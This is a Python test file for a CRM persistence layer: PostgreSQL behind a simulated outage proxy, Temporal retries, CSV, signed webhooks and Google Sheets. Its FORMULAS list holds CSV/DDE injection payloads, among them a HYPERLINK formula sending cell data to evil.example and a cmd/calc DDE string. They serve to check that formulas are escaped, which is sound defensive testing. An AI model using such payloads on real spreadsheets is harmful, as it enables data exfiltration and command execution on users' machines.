"""CRM sinks against real peers: PostgreSQL (through a TCP path we can cut), a Temporal dev server,
gspread against a loopback Sheets v4 server, and a webhook receiver that checks the signature."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import hashlib
import hmac
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import asyncpg
import pytest
from temporalio import workflow
from temporalio.api.enums.v1 import EventType
from temporalio.common import RetryPolicy
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment, WorkflowEnvironment
from temporalio.worker import UnsandboxedWorkflowRunner, Worker

from activities.crm import CsvSink, PostgresSink, SheetSink, WebhookSink, make_sinks, sink_names
from activities.crm.activity import CrmActivities, masked
from activities.crm.base import LEAD_COLUMNS
from activities.crm.db import Database
from activities.crm.db.scratch import scratch_database
from activities.crm.webhook_sink import sign
from catalog.sheet_source import SheetsUnavailable, call_sheets, retry_after_seconds
from neuroseller.settings import Settings
from tests.fakes.sheets_server import FakeSheets, point_gspread_at, write_service_account
from tests.fakes.webhook_receiver import WebhookReceiver
from workflows.types import EventRecord, LeadRecord, LeadStatus, MessageRecord, PersistBatch

T0 = datetime(2026, 11, 1, 12, 0, tzinfo=UTC)
PATH_DOWN = (OSError, asyncpg.InterfaceError, asyncpg.PostgresConnectionError)
CARD = "4111 1111 1111 1111"


def batch(lead_id: str, n_messages: int = 2, sink: str = "postgres", **fields: object) -> PersistBatch:
    lead = LeadRecord.model_validate(
        {
            "lead_id": lead_id,
            "workflow_id": lead_id,
            "channel": "telegram",
            "chat_id": "42",
            "updated_at": T0,
            **fields,
        }
    )
    return PersistBatch(
        sink=sink,
        lead=lead,
        messages=[
            MessageRecord(
                key=f"{lead_id}:m{i}",
                lead_id=lead_id,
                role="customer",
                text=f"msg {i}",
                at=T0 + timedelta(seconds=i),
            )
            for i in range(n_messages)
        ],
    )


# ---- PostgreSQL through a path we can cut ---------------------------------------------------------


class TcpProxy:
    """A loopback TCP relay in front of the real PostgreSQL. `cut()` is a real outage of the path:
    live connections are reset and new ones refused until `restore()`. With `cut_after_commit`, the
    path dies right after the server acknowledged a COMMIT: the data landed, the client never heard."""

    def __init__(self, target: tuple[str, int] = ("127.0.0.1", 5432)) -> None:
        self.target = target
        self.port = 0
        self.cut_after_commit = False
        self.commits_cut = 0
        self._server: asyncio.Server | None = None
        self._writers: set[asyncio.StreamWriter] = set()

    async def restore(self) -> None:
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", self.port, reuse_address=True)
        self.port = self._server.sockets[0].getsockname()[1]

    async def cut(self) -> None:
        if self._server is not None:
            self._server.close()
            self._server = None
        for w in list(self._writers):
            w.transport.abort()
        self._writers.clear()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            up_reader, up_writer = await asyncio.open_connection(*self.target)
        except OSError:
            writer.transport.abort()
            return
        self._writers |= {writer, up_writer}

        async def pipe(src: asyncio.StreamReader, dst: asyncio.StreamWriter, from_server: bool) -> None:
            with contextlib.suppress(OSError, asyncio.CancelledError):
                while data := await src.read(65536):
                    if from_server and self.cut_after_commit and b"COMMIT\x00" in data:
                        self.cut_after_commit = False
                        self.commits_cut += 1
                        await self.cut()
                        return
                    dst.write(data)
                    await dst.drain()
            dst.transport.abort()

        await asyncio.gather(pipe(reader, up_writer, False), pipe(up_reader, writer, True))

    def dsn(self, database_dsn: str) -> str:
        return database_dsn.replace("127.0.0.1:5432", f"127.0.0.1:{self.port}")


@pytest.fixture(scope="module")
async def dsn() -> AsyncIterator[str]:
    async with scratch_database() as url:
        async with Database(url) as database:
            await database.migrate()
        yield url


@pytest.fixture
async def db(dsn: str) -> AsyncIterator[Database]:
    async with Database(dsn) as database:
        yield database


async def test_postgres_sink_retried_batch_lands_once(db: Database) -> None:
    sink = PostgresSink(db)
    for _ in range(3):
        await sink.write(batch("lead-pg-1", n_messages=3))
    assert (await db.count("leads", "lead-pg-1"), await db.count("messages", "lead-pg-1")) == (1, 3)


async def test_write_raises_while_postgres_is_unreachable_and_lands_once_after(dsn: str) -> None:
    proxy = TcpProxy()
    await proxy.restore()
    via_proxy = Database(proxy.dsn(dsn), connect_timeout=2)
    try:
        sink = PostgresSink(via_proxy)
        await sink.write(batch("lead-pg-2", n_messages=1))
        proxy.cut_after_commit = True
        with pytest.raises(PATH_DOWN):  # the commit landed, its acknowledgement never arrives
            await sink.write(batch("lead-pg-2", n_messages=3))
        with pytest.raises(PATH_DOWN):
            await sink.write(batch("lead-pg-2", n_messages=3))  # the path is down: refused
        await proxy.restore()
        await sink.write(batch("lead-pg-2", n_messages=3))  # Temporal's retry
    finally:
        await via_proxy.close()
        await proxy.cut()
    async with Database(dsn) as check:
        assert (await check.count("leads", "lead-pg-2"), await check.count("messages", "lead-pg-2")) == (1, 3)
    assert proxy.commits_cut == 1


@workflow.defn(sandboxed=False)
class PersistTurnWorkflow:
    """Stands in for LeadWorkflow's persistence step: fan out one `persist_lead` per sink."""

    @workflow.run
    async def run(self, batch: PersistBatch) -> list[str]:
        names: list[str] = await workflow.execute_activity(
            "crm_sinks", start_to_close_timeout=timedelta(seconds=5)
        )
        policy = RetryPolicy(
            initial_interval=timedelta(milliseconds=200),
            backoff_coefficient=1.5,
            maximum_interval=timedelta(seconds=1),
        )
        await asyncio.gather(
            *(
                workflow.execute_activity(
                    "persist_lead",
                    batch.model_copy(update={"sink": name}),
                    start_to_close_timeout=timedelta(seconds=5),
                    retry_policy=policy,
                )
                for name in names
            )
        )
        return names


async def test_temporal_retries_persist_lead_until_postgres_is_back(
    temporal_env: WorkflowEnvironment, dsn: str, tmp_path: Path
) -> None:
    proxy = TcpProxy()
    await proxy.restore()
    via_proxy = Database(proxy.dsn(dsn), connect_timeout=1)
    crm = CrmActivities({"postgres": PostgresSink(via_proxy), "csv": CsvSink(tmp_path / "leads.csv")})
    queue = f"crm-{uuid.uuid4().hex[:8]}"
    turn = batch("lead-pg-3", n_messages=4)
    turn.messages[0].text = f"моя карта {CARD}"
    async with Worker(
        temporal_env.client,
        task_queue=queue,
        workflows=[PersistTurnWorkflow],
        activities=[crm.sink_names, crm.persist_lead],
        workflow_runner=UnsandboxedWorkflowRunner(),
    ):
        await via_proxy.connect()
        await proxy.cut()  # PostgreSQL goes away in the middle of the dialogue
        handle = await temporal_env.client.start_workflow(
            PersistTurnWorkflow.run, turn, id=f"wf-{queue}", task_queue=queue
        )
        await asyncio.sleep(1.5)
        assert CsvSink(tmp_path / "leads.csv").read_rows()[0]["lead_id"] == "lead-pg-3"  # not held back
        await proxy.restore()
        assert await asyncio.wait_for(handle.result(), 20) == ["postgres", "csv"]
        attempts = [
            e.activity_task_started_event_attributes.attempt
            async for e in handle.fetch_history_events()
            if e.event_type == EventType.EVENT_TYPE_ACTIVITY_TASK_STARTED
        ]
    await crm.close()
    await proxy.cut()
    assert max(attempts) > 1
    async with Database(dsn) as check:
        assert (await check.count("leads", "lead-pg-3"), await check.count("messages", "lead-pg-3")) == (1, 4)
        texts = [m.text for m in await check.messages("lead-pg-3")]
    assert texts[0] == "моя карта [card]"


async def test_unknown_sink_fails_without_retry() -> None:
    crm = CrmActivities({})
    with pytest.raises(ApplicationError) as err:
        await ActivityEnvironment().run(crm.persist_lead, PersistBatch(sink="nope"))
    assert err.value.non_retryable
    assert await ActivityEnvironment().run(crm.sink_names) == []


def test_masking_keeps_contacts_but_masks_text() -> None:
    b = batch("lead-m", phone="+79123456789", request=f"карта {CARD}, ул. Ленина, д. 5")
    b.events.append(EventRecord(key="e", lead_id="lead-m", kind="note", data={"text": CARD}))
    out = masked(b)
    assert out.lead is not None and out.lead.phone == "+79123456789"
    assert out.lead.request == "карта [card], [address]"
    assert out.events[0].data == {"text": "[card]"}


# ---- CSV -------------------------------------------------------------------------------------------


async def test_csv_sink_one_row_per_lead_upserted(tmp_path: Path) -> None:
    path = tmp_path / "crm" / "leads.csv"
    sink = CsvSink(path)
    await sink.write(batch("lead-a", name="Анна", amount=Decimal("5990.00"), items=["TENT-2", "MAT-1"]))
    await sink.write(batch("lead-b"))
    await sink.write(batch("lead-a", name="Анна", status=LeadStatus.WON, updated_at=T0 + timedelta(hours=1)))
    await sink.write(batch("lead-a", status=LeadStatus.CART))  # older snapshot retried late: ignored
    await sink.write(PersistBatch(sink="csv"))  # no lead yet: nothing to write
    rows = sink.read_rows()
    assert [r["lead_id"] for r in rows] == ["lead-a", "lead-b"]
    assert rows[0]["status"] == "won" and rows[0]["name"] == "Анна"
    with path.open(encoding="utf-8-sig", newline="") as f:
        assert next(csv.reader(f)) == list(LEAD_COLUMNS)
    assert sorted(p.name for p in path.parent.iterdir()) == ["leads.csv", "leads.csv.lock"]  # no temp left


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
async def test_csv_sink_never_writes_a_live_formula(tmp_path: Path, text: str) -> None:
    """OWASP CSV injection: a cell a spreadsheet would evaluate starts with an apostrophe instead."""
    sink = CsvSink(tmp_path / "leads.csv")
    await sink.write(batch("lead-x", name=text))
    await sink.write(batch("lead-x", name=text, updated_at=T0 + timedelta(hours=1)))  # rewritten: escaped once
    with (tmp_path / "leads.csv").open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    name = cells[len(LEAD_COLUMNS) + LEAD_COLUMNS.index("name")]
    assert name.startswith("'") and name[1:].replace("\\|", "|") == text  # defusedcsv also escapes pipes (DDE)
    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit()) for c in cells)


# ---- webhook ---------------------------------------------------------------------------------------


@pytest.fixture
async def receiver() -> AsyncIterator[WebhookReceiver]:
    r = await WebhookReceiver(secret="s3cret-hook").start()
    yield r
    await r.stop()


async def test_webhook_posts_signed_json(receiver: WebhookReceiver) -> None:
    sink = WebhookSink(receiver.url, "s3cret-hook")
    try:
        await sink.write(batch("lead-w1", name="John", amount=Decimal("10.50")))
        await sink.write(PersistBatch(sink="webhook"))  # nothing to send before a lead exists
    finally:
        await sink.close()
    [delivery] = receiver.deliveries
    assert delivery.signature_ok
    assert delivery.payload["lead"]["name"] == "John" and delivery.payload["lead"]["amount"] == "10.50"
    assert [m["key"] for m in delivery.payload["messages"]] == ["lead-w1:m0", "lead-w1:m1"]


async def test_webhook_5xx_and_429_retry_then_redelivery_is_recognisable(receiver: WebhookReceiver) -> None:
    receiver.queued += [(503, {}), (429, {"Retry-After": "7"})]
    sink = WebhookSink(receiver.url, "s3cret-hook")
    try:
        with pytest.raises(ApplicationError) as first:
            await sink.write(batch("lead-w2"))
        with pytest.raises(ApplicationError) as second:
            await sink.write(batch("lead-w2"))
        await sink.write(batch("lead-w2"))
        await sink.write(batch("lead-w2"))  # a retry after a lost 200: same delivery id
    finally:
        await sink.close()
    assert not first.value.non_retryable and not second.value.non_retryable
    assert second.value.next_retry_delay == timedelta(seconds=7)
    assert len({d.delivery_id for d in receiver.deliveries}) == 1
    assert len(receiver.accepted) == 1


async def test_webhook_rejection_is_not_retried(receiver: WebhookReceiver) -> None:
    sink = WebhookSink(receiver.url, "wrong-secret")
    try:
        with pytest.raises(ApplicationError) as err:
            await sink.write(batch("lead-w3"))
    finally:
        await sink.close()
    assert err.value.non_retryable and err.value.type == "WebhookRejected"
    assert not receiver.deliveries[0].signature_ok


def test_signature_is_hmac_sha256_of_the_body() -> None:
    assert sign(b"{}", "k") == "sha256=" + hmac.new(b"k", b"{}", hashlib.sha256).hexdigest()


# ---- Google Sheet ----------------------------------------------------------------------------------


@pytest.fixture
async def sheets(tmp_path: Path) -> AsyncIterator[tuple[FakeSheets, Path]]:
    fake = await FakeSheets(sheets={"Leads": []}).start()
    point_gspread_at(fake.base_url)
    creds = write_service_account(tmp_path / "sa.json", f"{fake.base_url}/token")
    yield fake, creds
    await fake.stop()


async def test_sheet_sink_creates_header_and_updates_rows_in_place(sheets: tuple[FakeSheets, Path]) -> None:
    fake, creds = sheets
    sink = SheetSink(creds, fake.spreadsheet_id, "Leads")
    await sink.write(batch("lead-s1", name="Анна"))
    await sink.write(batch("lead-s2", name="Bob"))
    await sink.write(batch("lead-s1", name="Анна", status=LeadStatus.WON, amount=Decimal("5990")))
    await sink.write(PersistBatch(sink="gsheet"))
    grid = fake.sheets["Leads"]
    assert grid[0] == list(LEAD_COLUMNS)
    assert [r[0] for r in grid] == ["lead_id", "lead-s1", "lead-s2"]
    assert grid[1][1:3] == ["won", "Анна"] and grid[1][9] == "5990"
    assert fake.token_requests >= 1


async def test_sheet_sink_writes_customer_text_raw(sheets: tuple[FakeSheets, Path]) -> None:
    """The sheet is written RAW: a formula typed by a customer stays text and is not escaped twice."""
    fake, creds = sheets
    sink = SheetSink(creds, fake.spreadsheet_id, "Leads")
    await sink.write(batch("lead-f1", name=FORMULAS[0]))
    await sink.write(batch("lead-f1", name=FORMULAS[0], status=LeadStatus.WON))
    assert fake.input_options and set(fake.input_options) == {"RAW"}
    assert fake.sheets["Leads"][1][2] == FORMULAS[0]


async def test_sheet_sink_creates_the_worksheet_when_missing(sheets: tuple[FakeSheets, Path]) -> None:
    fake, creds = sheets
    await SheetSink(creds, fake.spreadsheet_id, "CRM").write(batch("lead-s3"))
    assert [r[0] for r in fake.sheets["CRM"]] == ["lead_id", "lead-s3"]


async def test_sheet_sink_refuses_a_foreign_sheet(sheets: tuple[FakeSheets, Path]) -> None:
    fake, creds = sheets
    fake.sheets["Leads"] = [["Имя", "Телефон"], ["x", "y"]]
    with pytest.raises(ApplicationError) as err:
        await SheetSink(creds, fake.spreadsheet_id, "Leads").write(batch("lead-s4"))
    assert err.value.non_retryable


async def test_sheet_sink_honours_429_retry_after(sheets: tuple[FakeSheets, Path]) -> None:
    fake, creds = sheets
    sink = SheetSink(creds, fake.spreadsheet_id, "Leads")
    await sink.write(batch("lead-s5"))
    fake.fail_next(1, 429, retry_after="1")
    await sink.write(batch("lead-s5", status=LeadStatus.CART))
    failed = [t for t, _, _, status in fake.requests if status == 429]
    after = [t for t, _, _, status in fake.requests if status == 200 and t > failed[0]]
    assert after[0] - failed[0] >= 0.95
    assert [r[0] for r in fake.sheets["Leads"]] == ["lead_id", "lead-s5"]
    assert fake.sheets["Leads"][1][1] == "cart"


async def test_sheet_sink_hands_a_long_rate_limit_to_temporal(sheets: tuple[FakeSheets, Path]) -> None:
    fake, creds = sheets
    sink = SheetSink(creds, fake.spreadsheet_id, "Leads")
    await sink.write(batch("lead-s6"))
    fake.fail_next(1, 429, retry_after="120")
    with pytest.raises(ApplicationError) as err:
        await sink.write(batch("lead-s6"))
    assert not err.value.non_retryable and err.value.next_retry_delay == timedelta(seconds=120)


def test_call_sheets_backs_off_on_5xx_then_gives_up() -> None:
    import gspread
    import requests

    def failing() -> None:
        resp = requests.Response()
        resp.status_code = 503
        resp._content = b'{"error": {"code": 503, "message": "busy", "status": "UNAVAILABLE"}}'
        raise gspread.exceptions.APIError(resp)

    waits: list[float] = []
    with pytest.raises(SheetsUnavailable):
        call_sheets(failing, attempts=3, base_delay=0.1, sleep=waits.append)
    assert waits == [0.1, 0.2]


def test_retry_after_parsing() -> None:
    now = datetime(2026, 11, 1, 12, 0, tzinfo=UTC)
    assert retry_after_seconds("3") == 3.0
    assert retry_after_seconds("Sun, 01 Nov 2026 12:00:05 GMT", now=now) == 5.0
    assert retry_after_seconds("soon") is None
    assert retry_after_seconds(None) is None


# ---- configuration ---------------------------------------------------------------------------------


def test_make_sinks_builds_what_settings_ask(tmp_path: Path) -> None:
    settings = Settings(
        _env_file=None,
        crm_sinks="csv, webhook ,sheet",
        crm_webhook_url="http://127.0.0.1:1/h",
        crm_webhook_secret="s3cret-hook",
        gsheet_credentials_file=tmp_path / "sa.json",
        gsheet_spreadsheet_id="sid",
        crm_csv_path=tmp_path / "l.csv",
    )
    sinks = make_sinks(settings, Database("postgresql://x@127.0.0.1:1/x"))
    assert list(sinks) == ["postgres", "csv", "webhook", "gsheet"]
    assert list(make_sinks(Settings(_env_file=None), Database("postgresql://x@127.0.0.1:1/x"))) == [
        "postgres"
    ]


@pytest.mark.parametrize("spec", ["webhook", "gsheet", "kafka"])
def test_make_sinks_fails_at_start_on_missing_settings(spec: str) -> None:
    with pytest.raises(ValueError):
        make_sinks(Settings(_env_file=None, crm_sinks=spec), Database("postgresql://x@127.0.0.1:1/x"))


def test_sink_names_are_canonical() -> None:
    assert sink_names("CSV;postgresql,google_sheet,csv") == ["postgres", "csv", "gsheet"]
